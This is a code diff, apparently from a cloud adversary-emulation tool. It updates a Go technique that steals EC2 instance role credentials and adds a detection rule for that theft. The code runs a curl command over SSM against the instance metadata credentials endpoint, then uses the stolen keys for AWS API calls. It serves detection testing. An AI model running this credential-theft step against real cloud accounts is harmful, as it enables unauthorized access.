@@ -47,9 +47,17 @@ GuardDuty provides two findings to identify stolen EC2 instance credentials.
 
 See also: [Known detection bypasses](https://hackingthe.cloud/aws/avoiding-detection/steal-keys-undetected/).
 `,
-		Platform:           stratus.AWS,
-		IsIdempotent:       true,
-		MitreAttackTactics: []mitreattack.Tactic{mitreattack.CredentialAccess},
+		Platform:              stratus.AWS,
+		IsIdempotent:          true,
+		MitreAttackTactics:    []mitreattack.Tactic{mitreattack.CredentialAccess},
+		MitreAttackTechniques: []string{"T1552.005"},
+		DetectionRule: &stratus.DetectionRule{
+			Selections: []stratus.DetectionSelection{
+				{"userIdentity.type": {"AssumedRole"}, "userIdentity.principalId|contains": {":i-"}, "eventName": {"GetCallerIdentity", "DescribeInstances"}},
+			},
+			Level:          stratus.DetectionLevelLow,
+			FalsePositives: []string{"Workloads running on EC2 instances"},
+		},
 		FrameworkMappings: []stratus.FrameworkMappings{
 			{
 				Framework: stratus.ThreatTechniqueCatalogAWS,
@@ -63,23 +71,23 @@ See also: [Known detection bypasses](https://hackingthe.cloud/aws/avoiding-detec
 			},
 		},
 		PrerequisitesTerraformCode: tf,
-		Detonate:                   detonate,
+		DetonateWithContext:        detonate,
 	})
 }
 
-func detonate(params map[string]string, providers stratus.CloudProviders) error {
+func detonate(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	ssmClient := ssm.NewFromConfig(providers.AWS().GetConnection())
 	instanceId := params["instance_id"]
 	instanceRoleName := params["instance_role_name"]
 
-	if err := utils.WaitForInstanceToRegisterInSSM(ssmClient, instanceId); err != nil {
+	if err := utils.WaitForInstanceToRegisterInSSM(ctx, ssmClient, instanceId); err != nil {
 		return err
 	}
 
 	command := "curl 169.254.169.254/latest/meta-data/iam/security-credentials/" + instanceRoleName + "/"
 
 	log.Println("Running command through SSM on " + instanceId + ": " + command)
-	result, err := ssmClient.SendCommand(context.Background(), &ssm.SendCommandInput{
+	result, err := ssmClient.SendCommand(ctx, &ssm.SendCommandInput{
 		DocumentName: aws.String("AWS-RunShellScript"),
 		InstanceIds:  []string{instanceId},
 		Parameters: map[string][]string{
@@ -90,7 +98,7 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 		return errors.New("unable to send SSM command to instance: " + err.Error())
 	}
 
-	commandResult, err := ssm.NewCommandExecutedWaiter(ssmClient).WaitForOutput(context.Background(), &ssm.GetCommandInvocationInput{
+	commandResult, err := ssm.NewCommandExecutedWaiter(ssmClient).WaitForOutput(ctx, &ssm.GetCommandInvocationInput{
 		CommandId:  result.Command.CommandId,
 		InstanceId: &instanceId,
 	}, 2*time.Minute)
@@ -112,7 +120,7 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 		&providers.AWS().UniqueCorrelationId,
 	)
 	newStsClient := sts.NewFromConfig(newAwsConnection)
-	response, _ := newStsClient.GetCallerIdentity(context.Background(), &sts.GetCallerIdentityInput{})
+	response, _ := newStsClient.GetCallerIdentity(ctx, &sts.GetCallerIdentityInput{})
 	if response.Arn == nil {
 		return errors.New("failed to retrieve instance profile credentials (could not run sts:GetCallerIdentity using stolen credentials")
 	}
@@ -122,7 +130,7 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 	// Make a benign API call (ec2:DescribeInstances) using these credentials
 	newEc2Client := ec2.NewFromConfig(newAwsConnection)
 	log.Println("Locally running a benign API call ec2:DescribeInstances using stolen credentials")
-	_, err = newEc2Client.DescribeInstances(context.Background(), &ec2.DescribeInstancesInput{})
+	_, err = newEc2Client.DescribeInstances(ctx, &ec2.DescribeInstancesInput{})
 
 	if err != nil {
 		return errors.New("could not use stolen instance credentials to perform further AWS API calls: " + err.Error())